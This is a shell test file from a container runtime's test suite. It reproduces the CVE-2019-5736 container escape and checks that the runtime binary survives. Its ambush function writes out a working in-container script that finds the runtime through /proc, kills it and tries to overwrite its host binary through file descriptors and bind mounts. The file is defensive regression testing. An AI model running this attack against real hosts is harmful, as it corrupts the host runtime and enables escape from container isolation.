# A container that attacks the program of its runtime (CVE-2019-5736).
# shellcheck shell=dash disable=SC2034,SC2154  # variables are shared with who sources this

# ambush: a folder ./shared for the container, with a copy of the runtime that is the case's own, since an attack that
# succeeds spoils it; and what the container is to do, which is to leave its findings in shared/said.
#
# The victim is told to execute /proc/self/exe in the container, which is the runtime, and to read a bundle that keeps it
# waiting. While it waits the attacker opens its program; it writes when the victim is dead, because a program that runs
# cannot be written to.
ambush() {
	mkdir -p shared/trap shared/point
	chmod 777 shared shared/point
	mkfifo shared/trap/config.json
	cp "$runtime" victim
	cat >shared/attack <<-'END'
		exec >/shared/said 2>&1
		while [ -z "${found-}" ]; do
			for process in /proc/[0-9]*; do
				case $(/bin/busybox readlink "$process/exe") in
				'' | */busybox) ;;
				*) found=$process ;;
				esac
			done
		done
		echo "found $(/bin/busybox readlink "$found/exe")"
		exec 9<"$found/exe" || exit
		echo opened
		before=$(/bin/busybox sha256sum </proc/self/fd/9)
		kill -9 "${found#/proc/}"
		while [ -e "$found" ]; do :; done
		for try in 1 2 3 4 5; do
			echo spoiled >>/proc/self/fd/9
			/bin/busybox truncate -s 0 /proc/self/fd/9
			/bin/busybox mount -o remount,bind,rw /proc/self/fd/9
			/bin/busybox mount -o bind /proc/self/fd/9 /shared/point
			: >/shared/file
			/bin/busybox mount -o bind /proc/self/fd/9 /shared/file && /bin/busybox mount -o remount,bind,rw /shared/file
			echo spoiled >>/shared/file
			/bin/busybox chmod 777 /proc/self/fd/9
		done
		[ "$(/bin/busybox sha256sum </proc/self/fd/9)" != "$before" ] || echo "the same"
		echo "at the end"
		exec sleep 1000
	END
}

# What the attacker is given: to look into processes, and to do what it likes with files and mounts.
privileges='["CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_KILL"]'

# can_execute_itself RUNTIME...: by that command line, in a container; or the case is skipped.
can_execute_itself() {
	bundle args '["/proc/self/exe", "--version"]'
	try "$@" run --bundle bundle "$tag"
	! contains "$errors" ENOENT || skip "the runtime's program needs libraries, which the container does not have"
	equal "$status" 0 "the status of the runtime in the container"
}

# attacked RUNTIME...: an ambushed container by that command line; its program is as it was.
attacked() {
	can_execute_itself "$@"
	bundle args '["sh", "/shared/attack"]' \
		process ", \"capabilities\": {\"bounding\": $privileges, \"effective\": $privileges, \"permitted\": $privileges}" \
		mount ", {\"destination\": \"/shared\", \"type\": \"bind\", \"source\": \"$PWD/shared\", \"options\": [\"bind\"]}"
	ok "$@" run --detach --bundle bundle "$tag"
	"$@" exec "$tag" /proc/self/exe run --bundle /shared/trap trapped >exec.log 2>&1 &
	soon "the end of the attack" grep -q 'at the end' shared/said
	kill "$!" 2>/dev/null || true
	output=$(cat shared/said exec.log)
	has 'opened'
	has 'the same'
	cmp -s victim "$runtime" || differs "the victim's program to be as it was" "another"
	ok "$@" delete --force "$tag"
}

# as_nobody COMMAND...: of words without blanks.
as_nobody() {
	su -s /bin/sh nobody -c "$*"
}
